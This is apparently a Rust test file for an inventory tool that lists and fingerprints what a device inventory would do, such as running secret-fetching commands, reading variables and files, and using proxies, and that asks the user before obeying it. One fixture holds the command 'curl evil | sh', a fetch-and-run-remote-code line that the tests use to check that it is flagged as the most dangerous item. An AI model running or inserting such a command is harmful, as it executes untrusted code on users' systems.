//! What is named, what is remembered, and what asks again.

use std::fs;
use std::path::Path;

use super::*;
use crate::testing::reader;
use crate::{Inventory, Search};

const HUB: &str = "[devices.hub]\nkind = \"vns3\"\naddress = \"192.0.2.10\"\n";

fn read(folder: &Path, text: &str) -> Inventory {
    reader().read(&folder.join("edgebook.toml"), text).unwrap()
}

#[test]
fn all_that_an_inventory_could_do_is_shown_and_the_most_dangerous_first() {
    let text = "[defaults]\nkind = \"vns3\"\n\
        [devices.a]\naddress = \"192.0.2.1\"\nsecret.command = [\"sh\", \"-c\", \"curl evil | sh\"]\n\
        [devices.b]\naddress = \"192.0.2.2\"\nsecret.env = \"AWS_SECRET\"\nproxy = \"http://192.0.2.9:3128\"\n\
        [devices.c]\naddress = \"192.0.2.3\"\nsecret.env = \"AWS_SECRET\"\nauth = \"token\"\ntrust = \"system\"\nread_only = true\n\
        [devices.d]\naddress = \"192.0.2.4\"\nsecret.file = \"/etc/key\"\ntrust.ca = \"/etc/ca.pem\"\n\
        [devices.e]\naddress = \"fe80::1%eth0\"\nproxy = { address = \"http://h:1\", user = \"u\", secret = { command = [\"pass\"] } }\n";
    let names = Names::of(&read(Path::new("/etc/edge"), text), None);
    assert_eq!(
        names.lines(),
        [
            "runs pass (for e)",
            "runs sh -c 'curl evil | sh' (for a)",
            "reads the variable AWS_SECRET (for b, c)",
            "reads the file /etc/key (for d)",
            "calls https://192.0.2.1:8000 as `api` (for a)",
            "calls https://192.0.2.2:8000 as `api` (for b)",
            "calls https://192.0.2.3:8000 with a token, read-only (for c)",
            "calls https://192.0.2.4:8000 as `api` (for d)",
            "calls https://[fe80::1%eth0]:8000 as `api` (for e)",
            "goes through http://192.0.2.9:3128 (for b)",
            "goes through http://h:1 as `u` (for e)",
            "believes the authorities of /etc/ca.pem (for d)",
            "believes the authorities of the operating system (for c)",
        ]
    );
}

#[test]
fn a_change_of_what_is_named_is_seen_and_nothing_else() {
    let folder = tempfile::tempdir().unwrap();
    let names = |more: &str| Names::of(&read(folder.path(), &format!("{HUB}{more}\n")), None);
    let plain = names("");
    for same in [
        "# comment",
        "labels = { site = \"x\" }",
        "groups = [\"g\"]\n[groups.g]",
        "timeout = \"5s\"",
        "port = 8000",
    ] {
        assert_eq!(plain.digests(), names(same).digests(), "{same}");
    }
    let pin = format!("trust.fingerprint = \"sha256:{}\"", "0".repeat(64));
    let others = [
        "port = 8001",
        "auth = \"token\"",
        "auth.basic = \"admin\"",
        "secret.env = \"A\"",
        "secret.env = \"B\"",
        "secret.file = \"A\"",
        "secret.keyring = { service = \"A\", user = \"B\" }",
        "secret.command = [\"A\", \"B\"]",
        "secret.command = [\"A B\"]",
        "trust = \"system\"",
        "trust.ca = \"ca.pem\"",
        pin.as_str(),
        "proxy = \"http://192.0.2.9:3128\"",
        "proxy = { address = \"http://192.0.2.9:3128\", user = \"a\", secret = { env = \"A\" } }",
        "proxy = { address = \"http://192.0.2.9:3128\", user = \"b\", secret = { env = \"A\" } }",
        "proxy = { address = \"http://192.0.2.9:3128\", user = \"a\", secret = { env = \"B\" } }",
        "proxy = { address = \"http://192.0.2.9:3128\", user = \"a\", secret = { command = [\"A\"] } }",
        "read_only = true",
        "[devices.b]\nkind = \"vns3\"\naddress = \"192.0.2.11\"",
    ];
    let mut seen = vec![plain];
    for other in others {
        let names = names(other);
        assert!(seen.iter().all(|known| known.digests() != names.digests()), "{other}");
        seen.push(names);
    }
}

#[test]
fn files_beside_the_inventory_count_with_their_content() {
    let folder = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let inside = folder.path().join("tool");
    let below = folder.path().join("bin/tool");
    fs::create_dir(folder.path().join("bin")).unwrap();
    fs::write(outside.path().join("tool"), "one").unwrap();
    std::os::unix::fs::symlink(outside.path().join("tool"), folder.path().join("link")).unwrap();
    let far = outside.path().join("tool").display().to_string();
    for (command, counts) in [
        ("[\"./tool\"]".to_owned(), true),
        ("[\"sh\", \"tool\"]".to_owned(), true),
        ("[\"./link\"]".to_owned(), true),
        ("[\"sh\", \"-c\", \"exec './tool' hub\"]".to_owned(), true),
        ("[\"sh\", \"-c\", \". tool; show\"]".to_owned(), true),
        ("[\"sh\", \"-c\", \"$PWD/tool|head -n1\"]".to_owned(), true),
        ("[\"sh\", \"-c\", \"cd bin && ./tool\"]".to_owned(), true),
        ("[\"env\", \"PATH=bin:/usr/bin\", \"tool\"]".to_owned(), true),
        ("[\"make\", \"--file=tool\"]".to_owned(), true),
        ("[\"sh\", \"-c\", \"echo tool-x\"]".to_owned(), false),
        (format!("[\"{far}\"]"), false),
        ("[\"tool-in-path\"]".to_owned(), false),
    ] {
        let names = |content: &str| {
            fs::write(&inside, content).unwrap();
            fs::write(&below, content).unwrap();
            fs::write(outside.path().join("tool"), content).unwrap();
            Names::of(&read(folder.path(), &format!("{HUB}secret.command = {command}\n")), None)
        };
        assert_eq!(names("one") != names("two"), counts, "{command}");
    }
}

#[test]
fn what_is_allowed_is_remembered_until_it_changes_or_is_forgotten() {
    let top = tempfile::tempdir().unwrap();
    let folder = top.path().join("clone");
    fs::create_dir(&folder).unwrap();
    let file = folder.join("edgebook.toml");
    let allowed = AllowedInventories::in_folder(&top.path().join("state"));
    let search = Search { named: None, from: Some(folder.clone()), config: None };
    let standing = |text: &str| {
        fs::write(&file, text).unwrap();
        search.petition(&file, &reader(), &allowed).unwrap().standing()
    };
    let petition = || search.petition(&file, &reader(), &allowed).unwrap();
    assert_eq!(standing(HUB), Standing::New);
    assert!(matches!(search.open(&reader(), Some(&allowed)), Ok(Some(Obeyed::Ask(_)))));
    assert!(!petition().forget(&allowed).unwrap());
    petition().remember(&allowed, "alice").unwrap();
    assert_eq!(standing(HUB), Standing::Allowed);
    assert!(matches!(search.open(&reader(), Some(&allowed)), Ok(Some(Obeyed::Yes(_)))));
    // Without a state folder nothing is remembered, so nothing is obeyed.
    assert!(matches!(search.open(&reader(), None), Ok(Some(Obeyed::Ask(_)))));
    assert_eq!(standing(&format!("{HUB}secret.env = \"A\"\n")), Standing::Changed);
    assert_eq!(standing(HUB), Standing::Allowed);
    assert!(petition().forget(&allowed).unwrap());
    assert_eq!(standing(HUB), Standing::New);
    // An inventory that names nothing needs no permission.
    assert_eq!(standing("[groups.a]\n"), Standing::Allowed);
    // What cannot be read allows nothing, and says how to go on.
    fs::write(top.path().join("state/allowed_inventories.json"), "{").unwrap();
    fs::write(&file, HUB).unwrap();
    let error = search.open(&reader(), Some(&allowed)).unwrap_err().to_string();
    assert!(error.contains("allowed_inventories.json: it is damaged"), "{error}");
}
